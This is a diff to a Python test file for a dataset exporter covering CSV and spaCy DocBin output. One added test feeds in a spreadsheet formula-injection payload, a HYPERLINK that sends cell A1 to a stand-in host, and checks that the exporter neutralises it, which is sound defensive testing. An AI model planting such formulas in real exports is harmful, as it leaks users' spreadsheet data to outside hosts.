@@ -3,6 +3,7 @@ import csv
 import hashlib
 import io
 import json
+import sys
 import zipfile
 from collections.abc import Iterator
 
@@ -189,6 +190,14 @@ def test_csv_keeps_attributes_and_multiline_span_text() -> None:
     assert json.loads(rows[0]["provenance"]) == PROVENANCE
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run(start: str) -> None:
+    payload = start + "HYPERLINK(\"http://x.test/?\"&A1)"
+    doc = _doc(payload, payload + " said so.", (GoldSpan(0, len(payload), "sourced_readout"),))
+    [row] = list(csv.DictReader(io.StringIO(export("csv", (doc,))[0].decode("utf-8"), newline="")))
+    assert (row["text_id"], row["span_text"]) == ("'" + payload, "'" + payload)
+
+
 def test_spacy_exact_tokens_and_spans() -> None:
     record = json.loads(export("spacy", (DOC_B,))[0])
     assert record["text"] == TEXT_B
@@ -226,14 +235,32 @@ def test_spacy_words_and_spaces_rebuild_the_text(text: str) -> None:
     assert "".join(w + (" " if s else "") for w, s in zip(words, spaces)) == text
 
 
-def test_spacy_docbin_needs_spacy(tmp_path) -> None:
-    # spaCy is not a dependency, so only the guard is tested here.
-    try:
-        import spacy  # noqa: F401
-    except ImportError:
-        pass
-    else:
-        pytest.skip("spaCy is installed; this test covers its absence")
+def _docbin_docs(path) -> list:
+    from spacy.tokens import DocBin
+    from spacy.vocab import Vocab
+
+    return list(DocBin().from_disk(path).get_docs(Vocab()))
+
+
+def test_spacy_docbin_round_trip(tmp_path) -> None:
+    write_spacy_docbin(iter(DOCS), tmp_path / "gold.spacy", CTX)
+    loaded = _docbin_docs(tmp_path / "gold.spacy")
+    assert [(doc.text, doc.user_data["id"]) for doc in loaded] == [(gold.text, gold.id) for gold in DOCS]
+    assert [[(s.start_char, s.end_char, s.label_) for s in doc.spans[CTX.spans_key]] for doc in loaded] == [
+        [(s.start, s.end, s.label) for s in gold.spans] for gold in DOCS
+    ]
+
+
+def test_spacy_docbin_widens_a_span_that_cuts_a_token(tmp_path) -> None:
+    doc = _doc("w", "Putin agreed today.", (GoldSpan(2, 9, "author_inference"),))
+    write_spacy_docbin(iter([doc]), tmp_path / "gold.spacy", CTX)
+    [loaded] = _docbin_docs(tmp_path / "gold.spacy")
+    assert [(s.start_char, s.end_char) for s in loaded.spans[CTX.spans_key]] == [(0, 12)]
+
+
+def test_spacy_docbin_needs_spacy(tmp_path, monkeypatch) -> None:
+    for module in ("spacy", "spacy.tokens", "spacy.vocab"):
+        monkeypatch.setitem(sys.modules, module, None)  # as if spaCy were not installed
     with pytest.raises(FormatUnavailable, match="pip install spacy"):
         write_spacy_docbin(iter(DOCS), tmp_path / "gold.spacy", CTX)
 
